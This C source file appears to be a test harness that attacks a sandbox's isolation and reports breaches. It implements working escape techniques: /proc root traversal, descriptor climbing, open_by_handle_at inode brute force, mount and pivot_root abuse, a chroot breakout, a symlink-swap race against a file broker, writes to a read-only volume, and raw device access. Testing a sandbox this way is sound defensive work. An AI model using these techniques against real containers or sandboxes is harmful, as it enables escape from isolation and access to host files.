/* The host's files, from inside.
 *
 *     files guest SECRET PATH   by every way that the guest kernel offers
 *     files host SECRET PATH    the same past the guest kernel
 *     files race SECRET PATH    look-ups while a directory turns into a symlink and back
 *     files write               what may not be written: the read-only volume at /ro, the root
 *     files devices             device nodes
 *
 * PATH is a host file that contains SECRET and that no mount of the sandbox leads to.
 */
#include <pthread.h>
#include <sys/mount.h>
#include <sys/sysmacros.h>

#include "attack.h"

typedef long (*call_function)(long, long, long, long, long, long, long);
static call_function make_call;
static const char *secret, *target;

#define CALL(number, ...) CALL_(number, ##__VA_ARGS__, 0, 0, 0, 0, 0, 0)
#define CALL_(number, a, b, c, d, e, f, ...) \
  make_call(number, (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

static const char *const prefixes[] = {
    "", "/..", "/../../../..", "/work/..", "/work/../..", "/work/../../..", "/proc/self/root",
    "/proc/1/root", "/proc/2/root", "/proc/self/root/..", "/proc/1/cwd", "/proc/1/cwd/../../../..",
    "/proc/self/cwd/../../../..", "/proc/self/task/1/root", "/proc/thread-self/root/..",
    "/proc/self/exe/..", "/proc/self/fd/0/../../../..", "/dev/fd/1/../../..", "/work/absolute",
    "/work/relative", "/work/relative/proc/1/root", "/work/process", "/proc/self/ns/mnt/..",
    "/sys/../..", "/dev/../..", "/dev/shm/../../..", "/tmp/../..", "/run/../.."};

static int shows_secret(long descriptor) {
  char text[128] = {0};
  long size = CALL(SYS_pread64, descriptor, text, sizeof text - 1, 0);
  return size > 0 && strstr(text, secret) != NULL;
}

static void try_path(long directory, const char *path, const char *how) {
  long descriptor = CALL(SYS_openat, directory, path, O_RDONLY | O_NONBLOCK);
  if (descriptor < 0) return;
  if (shows_secret(descriptor)) say("breach: %s: %s leads to a host file", how, path);
  CALL(SYS_close, descriptor);
}

static void try_all_prefixes(const char *how) {
  char path[1024];
  for (size_t i = 0; i < LENGTH(prefixes); i++) {
    snprintf(path, sizeof path, "%s%s", prefixes[i], target);
    try_path(AT_FDCWD, path, how);
  }
  for (int pid = 1; pid < 64; pid++) {
    snprintf(path, sizeof path, "/proc/%d/root%s", pid, target);
    try_path(AT_FDCWD, path, how);
    snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../..%s", pid, target);
    try_path(AT_FDCWD, path, how);
  }
}

/* Every descriptor that is a directory is a place to climb from. */
static void try_descriptors(const char *how) {
  for (long descriptor = 0; descriptor < 1024; descriptor++) {
    char path[1024] = "";
    long here = CALL(SYS_openat, descriptor, ".", O_PATH | O_DIRECTORY);
    if (here < 0) {
      if (CALL(SYS_fcntl, descriptor, F_GETFL) >= 0 && shows_secret(descriptor))
        say("breach: %s: descriptor %ld shows a host file", how, descriptor);
      continue;
    }
    for (int depth = 0; depth < 8; depth++) {
      strcat(path, "../");
      size_t size = strlen(path);
      strcat(path, target + 1);
      try_path(descriptor, path, how);
      path[size] = 0;
      strcat(path, strrchr(target, '/') + 1);
      try_path(descriptor, path, how);
      path[size] = 0;
    }
    CALL(SYS_close, here);
  }
}

struct handle {
  struct file_handle head;
  unsigned char bytes[128];
};

/* A handle of inode 2, the root of ext4, and those that the kernel itself gives. */
static void try_handles(const char *how) {
  struct handle handle = {.head = {.handle_bytes = 128}};
  int mount_id = 0;
  int work = open("/work", O_RDONLY | O_DIRECTORY);
  long result = CALL(SYS_name_to_handle_at, AT_FDCWD, "/work/..", &handle, &mount_id, 0);
  if (result == 0) say("note: %s: name_to_handle_at works", how);
  for (uint64_t inode = 1; inode < 300; inode++) {
    memset(&handle, 0, sizeof handle);
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1;
    memcpy(handle.bytes, &inode, sizeof inode);
    long descriptor = CALL(SYS_open_by_handle_at, work, &handle, O_RDONLY);
    if (descriptor < 0) continue;
    say("breach: %s: open_by_handle_at opened inode %lu", how, inode);
    try_path(descriptor, target + 1, how);
    CALL(SYS_close, descriptor);
  }
  close(work);
}

static void try_mounts(const char *how) {
  static const char *const kinds[] = {"proc", "sysfs", "tmpfs", "devtmpfs", "ext4", "overlay",
                                      "cgroup", "cgroup2", "bpf", "debugfs", "securityfs"};
  mkdir("/work/mnt", 0755);
  for (size_t i = 0; i < LENGTH(kinds); i++) {
    long result = CALL(SYS_mount, kinds[i], "/work/mnt", kinds[i], 0, "");
    if (result == 0) try_all_prefixes("after mount");
    if (result == 0 && make_call == host_call) say("breach: %s: mounted %s", how, kinds[i]);
    if (result == 0) CALL(SYS_umount2, "/work/mnt", MNT_DETACH);
  }
  CALL(SYS_mount, "/", "/work/mnt", "", MS_BIND | MS_REC, 0);
  CALL(SYS_mount, "", "/", "", MS_REC | MS_SHARED, 0);
  CALL(SYS_umount2, "/work", MNT_DETACH);
  CALL(SYS_umount2, "/proc", MNT_DETACH);
  CALL(SYS_pivot_root, "/work", "/work/mnt");
  long tree = CALL(428, AT_FDCWD, "/", 0x8000 | 1); /* open_tree(OPEN_TREE_CLONE, recursive) */
  if (tree >= 0) try_path(tree, target + 1, "open_tree");
  CALL(430, "tmpfs", 0); /* fsopen */
  try_all_prefixes(how);
}

/* The classic: hold a directory above a new root, then climb out of it. */
static void climb(void *argument) {
  (void)argument;
  mkdir("/work/jail", 0755);
  int above = open("/work", O_RDONLY | O_DIRECTORY);
  if (CALL(SYS_chroot, "/work/jail") != 0) _exit(0);
  CALL(SYS_fchdir, above);
  for (int i = 0; i < 64; i++) CALL(SYS_chdir, "..");
  CALL(SYS_chroot, ".");
  try_path(AT_FDCWD, target, "chroot");
  try_path(AT_FDCWD, target + 1, "chroot");
}

static int reach(int is_host) {
  const char *how = is_host ? "past the kernel" : "through the kernel";
  if (symlink("/", "/work/absolute") || symlink("../../../../../../..", "/work/relative")
      || symlink("/proc/1/root", "/work/process"))
    say("note: no symlinks in the volume");
  make_call = is_host ? host_call : guest_call;
  try_all_prefixes(how);
  try_descriptors(how);
  try_handles(how);
  in_child(climb, NULL, 3000);
  try_mounts(how);
  return 0;
}

static volatile int is_racing = 1;

static void *exchange(void *argument) {
  (void)argument;
  while (is_racing) syscall(SYS_renameat2, AT_FDCWD, "/work/place", AT_FDCWD, "/work/lure", 2);
  return NULL;
}

/* /work/place is by turns a directory and a symlink that leads up and out. */
static int race(void) {
  char climbing[1024], path[1100];
  char *directory = strdup(target), *name = strrchr(directory, '/');
  *name++ = 0;
  snprintf(climbing, sizeof climbing, "../../../../../../../..%s", directory);
  mkdir("/work/place", 0755);
  if (symlink(climbing, "/work/lure")) return 5;
  pthread_t thread;
  if (pthread_create(&thread, NULL, exchange, NULL)) return 5;
  struct pv_request *request = new_request(PV_OP_OPEN);
  snprintf(path, sizeof path, "/work/place/%s", name);
  for (int i = 0; i < 4000; i++) {
    make_call = i & 1 ? guest_call : host_call;
    try_path(AT_FDCWD, path, "race");
    request->operation = PV_OP_OPEN;
    request->arguments[0] = (uint64_t)AT_FDCWD;
    request->arguments[1] = i & 2 ? O_RDWR : O_RDWR | O_CREAT | O_TRUNC;
    request->arguments[2] = 0644;
    strcpy(request->path, path);
    long descriptor = broker(request);
    if (descriptor < 0) continue;
    if (shows_secret(descriptor)) say("breach: race: brokered open of a host file");
    HOST(SYS_close, descriptor);
  }
  is_racing = 0;
  pthread_join(thread, NULL);
  return 0;
}

static void broker_write(uint32_t operation, const char *path, const char *path2) {
  struct pv_request *request = new_request(operation);
  request->arguments[0] = request->arguments[1] = (uint64_t)AT_FDCWD;
  if (operation == PV_OP_OPEN) request->arguments[1] = O_RDWR | O_CREAT | O_TRUNC;
  if (operation == PV_OP_CHMOD) request->arguments[2] = 0777;
  strcpy(request->path, path);
  strcpy(request->path2, path2);
  long result = broker(request);
  if (result < 0) return;
  say("breach: operation %u writes to %s", operation, path);
  if (operation == PV_OP_OPEN) HOST(SYS_write, result, "attacked\n", 9);
}

static int write_read_only(void) {
  static const char file[] = "/ro/file";
  for (int i = 0; i < 2; i++) {
    make_call = i ? host_call : guest_call;
    static const int modes[] = {O_WRONLY, O_RDWR, O_RDONLY | O_TRUNC, O_WRONLY | O_CREAT};
    for (size_t k = 0; k < LENGTH(modes); k++) {
      long descriptor = CALL(SYS_openat, AT_FDCWD, file, modes[k], 0644);
      if (descriptor >= 0) say("breach: %s opened with flags %#x", file, modes[k]);
      if (descriptor >= 0) CALL(SYS_write, descriptor, "attacked\n", 9);
    }
    if (CALL(SYS_openat, AT_FDCWD, "/ro/new", O_WRONLY | O_CREAT, 0644) >= 0)
      say("breach: /ro/new created");
    if (CALL(SYS_unlinkat, AT_FDCWD, file, 0) == 0) say("breach: %s removed", file);
    long descriptor = CALL(SYS_openat, AT_FDCWD, file, O_RDONLY);
    long shared = CALL(SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, descriptor, 0);
    if (shared > 0) say("breach: %s mapped shared and writable", file);
  }
  broker_write(PV_OP_OPEN, file, "");
  broker_write(PV_OP_UNLINK, file, "");
  broker_write(PV_OP_RENAME, file, "/ro/other");
  broker_write(PV_OP_LINK, file, "/ro/other");
  broker_write(PV_OP_CHMOD, file, "");
  broker_write(PV_OP_MKDIR, "/ro/directory", "");
  broker_write(PV_OP_SETXATTR, file, "user.attack");
  int marker = open("/etc/paravane-attack", O_CREAT | O_WRONLY, 0644);
  if (marker >= 0 && write(marker, "attacked\n", 9) != 9) say("note: short write");
  return 0;
}

static void check_device(long descriptor, const char *path) {
  struct stat facts;
  if (descriptor < 0) return;
  int is_device = HOST(SYS_newfstatat, descriptor, "", &facts, AT_EMPTY_PATH) == 0
      && (S_ISBLK(facts.st_mode) || S_ISCHR(facts.st_mode));
  if (is_device)
    say("breach: %s opened past the kernel: device %u:%u", path, major(facts.st_rdev),
        minor(facts.st_rdev));
  HOST(SYS_close, descriptor);
}

static int devices(void) {
  static const char *const names[] = {"mem", "kmsg", "vda", "sda", "nvme0n1", "loop0", "kvm",
                                      "fuse", "net/tun", "port", "console", "tty1", "ptmx",
                                      "mapper/control", "vhost-net", "userfaultfd"};
  char path[64];
  for (size_t i = 0; i < LENGTH(names); i++) {
    snprintf(path, sizeof path, "/dev/%s", names[i]);
    check_device(HOST(SYS_openat, AT_FDCWD, path, O_RDONLY | O_NONBLOCK), path);
  }
  struct pv_request *request = new_request(PV_OP_MKNOD);
  static const uint32_t kinds[] = {S_IFBLK | 0666, S_IFCHR | 0666};
  for (size_t i = 0; i < LENGTH(kinds); i++) {
    unlink("/work/device");
    request->operation = PV_OP_MKNOD;
    request->arguments[0] = (uint64_t)AT_FDCWD;
    request->arguments[2] = kinds[i];
    request->arguments[3] = request->arguments[4] = makedev(1, 1);
    strcpy(request->path, "/work/device");
    long result = broker(request);
    struct stat facts;
    if (result < 0 || HOST(SYS_newfstatat, AT_FDCWD, "/work/device", &facts, 0) != 0) continue;
    if (!S_ISREG(facts.st_mode)) say("breach: a device node made, mode %o", facts.st_mode);
    check_device(HOST(SYS_openat, AT_FDCWD, "/work/device", O_RDWR), "/work/device");
  }
  return 0;
}

int main(int count, char **values) {
  find_kernel();
  int result = 2;
  const char *mode = count > 1 ? values[1] : "";
  if (count == 4) secret = values[2], target = values[3];
  if (!strcmp(mode, "guest") && target) result = reach(0);
  else if (!strcmp(mode, "host") && target) result = reach(1);
  else if (!strcmp(mode, "race") && target) result = race();
  else if (!strcmp(mode, "write")) result = write_read_only();
  else if (!strcmp(mode, "devices")) result = devices();
  if (result == 0) say("done");
  return result;
}
